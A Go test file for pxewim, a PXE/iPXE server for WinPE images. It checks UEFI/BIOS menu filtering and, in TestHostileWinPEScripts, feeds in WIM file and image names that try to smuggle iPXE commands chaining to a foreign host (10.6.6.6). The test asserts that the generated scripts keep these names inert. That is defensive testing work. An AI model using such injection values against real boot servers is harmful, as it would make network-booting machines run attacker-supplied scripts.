package winpe_test

import (
	"github.com/pxewim/pxewim/internal/ipxetok"
	"github.com/pxewim/pxewim/winpe"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pxewim/pxewim/boot"
	"github.com/pxewim/pxewim/catalog"
	"github.com/pxewim/pxewim/internal/testenv"
)

// TestMenuHidesWinPEFromFirmwareItCannotBoot: a WinPE image without a UEFI boot manager is
// not offered to a UEFI client (DHCP said so), is offered to a BIOS client, and a client whose
// firmware is unknown gets it with the run-time ${platform} choice, whose UEFI part says why.
// The menus hold only pxewim's commands (the tokenizer of ipxetok_test.go).
func TestMenuHidesWinPEFromFirmwareItCannotBoot(t *testing.T) {
	dir, store := winpeStore(t)
	testenv.BuildWinPE(t, filepath.Join(dir, "nouefi.wim"), []testenv.WinPEImage{
		{Name: "PE without UEFI", Omit: []string{"Windows/Boot/EFI/bootmgfw.efi"}},
	}, "--compress=XPRESS")
	cfg, err := boot.ParseConfig("c.yaml", []byte("winpe: {auto: true, wimboot: tools/wimboot}\nmenu: {default: setup}\nentries:\n  - name: setup\n    winpe: {image: setup.wim}\n"))
	if err != nil {
		t.Fatal(err)
	}
	snap, err := catalog.Scan(t.Context(), dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	p := mustBind(t, cfg.WithCatalog(winpe.Facts(snap)), store, snap)
	menu := func(c boot.Client) string {
		_, err := p.Tree(c)
		if err != nil {
			t.Fatal(err)
		}
		url := func(r boot.Ref) (string, error) { return "http://10.0.0.1/files/" + r.String(), nil }
		s, err := p.Script(c, boot.ScriptMenu, url, func(err error) { t.Error(err) })
		if err != nil {
			t.Fatal(err)
		}
		if probs, _ := ipxetok.Check(s, []string{"http://10.0.0.1/files/"}); len(probs) > 0 {
			t.Errorf("%v\n%s", probs, s)
		}
		return s
	}
	uefi := menu(client("52:54:00:00:00:09", boot.FirmwareEFI64, true))
	if strings.Contains(uefi, "item pe-nouefi-1 ") || !strings.Contains(uefi, "item setup ") || !strings.Contains(uefi, "item pe-setup-1 ") {
		t.Errorf("UEFI menu offers the image without UEFI boot files, or lacks the others:\n%s", uefi)
	}
	if !strings.Contains(uefi, ":entry_pe-nouefi-1\necho pxewim: entry pe-nouefi-1 cannot boot here: UEFI clients cannot boot it: the image has no bootmgr (Windows/Boot/EFI/bootmgfw.efi)\n") {
		t.Errorf("UEFI menu: the hidden entry's label does not say why:\n%s", uefi)
	}
	bios := menu(client("52:54:00:00:00:09", boot.FirmwareBIOS, true))
	if !strings.Contains(bios, "item pe-nouefi-1 PE without UEFI (nouefi.wim:1, x86_64)\n") {
		t.Errorf("BIOS menu lacks the image:\n%s", bios)
	}
	unknown := menu(boot.Client{})
	if !strings.Contains(unknown, "item pe-nouefi-1 ") || !strings.Contains(unknown, "echo pxewim: pe-nouefi-1 cannot boot on UEFI: the image has no bootmgr") {
		t.Errorf("menu for an unknown firmware:\n%s", unknown)
	}
}

// TestHostileWinPEScripts: a WIM whose file name and image name try to add commands boots
// through wimboot (menu and entry script) and through the native chain (a rule, TFTP): every
// script holds only pxewim's commands and URLs.
func TestHostileWinPEScripts(t *testing.T) {
	dir, store := winpeStore(t)
	const file = "pe && chain http:  10.6.6.6 x ; ${x} #.wim"
	testenv.BuildWinPE(t, filepath.Join(dir, file), []testenv.WinPEImage{
		{Name: "PE && chain http://10.6.6.6/x.ipxe ; echo ${${a}} #c"},
		{Name: "second || chain http://10.6.6.6/y.ipxe"},
	}, "--compress=XPRESS")
	snap, err := catalog.Scan(t.Context(), dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	name := boot.AutoEntryName(file, 1)
	// The auto entry (image 1) boots through wimboot; "nat", image 2 with path: native, chains
	// the native loader over TFTP for the client a rule sends there.
	cfg, err := boot.ParseConfig("c.yaml", []byte("listen: {http: \":80\", tftp: \":69\"}\nwinpe: {auto: true, wimboot: tools/wimboot}\n"+
		"entries:\n  - name: nat\n    title: \"Native && chain http://10.6.6.6/n.ipxe\"\n    winpe: {image: \""+file+"\", path: native, index: 2}\n"+
		"rules:\n  - {match: {mac: \"52:54:00:00:00:01\"}, entry: nat}\n"))
	if err != nil {
		t.Fatal(err)
	}
	p := mustBind(t, cfg.WithCatalog(winpe.Facts(snap)), store, snap)
	bases := []string{"http://10.0.0.1/files/", "tftp://10.0.0.1/"}
	n := 0
	for _, c := range []boot.Client{
		client("52:54:00:00:00:01", boot.FirmwareBIOS, true), // the rule: chain the native loader
		client("52:54:00:00:00:01", boot.FirmwareEFI64, true),
		client("52:54:00:00:00:02", boot.FirmwareBIOS, true),
		client("52:54:00:00:00:02", boot.FirmwareEFI64, true),
		{},
	} {
		if _, err := p.Tree(c); err != nil {
			t.Fatal(err)
		}
		url := func(r boot.Ref) (string, error) { return "http://10.0.0.1/files/" + r.String(), nil }
		for _, script := range []string{boot.ScriptBoot, boot.ScriptMenu, name + ".ipxe", "nat.ipxe"} {
			if script == "nat.ipxe" && c.MAC.String() != "52:54:00:00:00:01" {
				continue // native entries render only for the clients a rule sends there
			}
			s, err := p.Script(c, script, url, func(error) {}) // "nat" cannot boot from the menu: a disabled line
			if err != nil {
				t.Fatalf("%s for %v: %v", script, c.MAC, err)
			}
			n++
			if probs, _ := ipxetok.Check(s, bases); len(probs) > 0 {
				t.Errorf("%s for %v: %v\n%s", script, c.MAC, probs, s)
			}
			if strings.Contains(s, "http://10.6.6.6/x.ipxe ;") || strings.Contains(s, "${a}") {
				t.Errorf("%s: the image name is not inert:\n%s", script, s)
			}
		}
	}
	// The rule's client chains the loader over TFTP; the others get wimboot lines.
	c := client("52:54:00:00:00:01", boot.FirmwareBIOS, true)
	s, _ := p.Script(c, boot.ScriptBoot, func(r boot.Ref) (string, error) { return "http://10.0.0.1/files/" + r.String(), nil }, nil)
	if !strings.Contains(s, "\nchain tftp://10.0.0.1/boot/pxeboot.n12 || goto failed\n") || !strings.Contains(s, "echo pxewim: booting Native and chain http://10.6.6.6/n.ipxe\n") {
		t.Errorf("rule script:\n%s", s)
	}
	t.Logf("%d scripts checked", n)
}
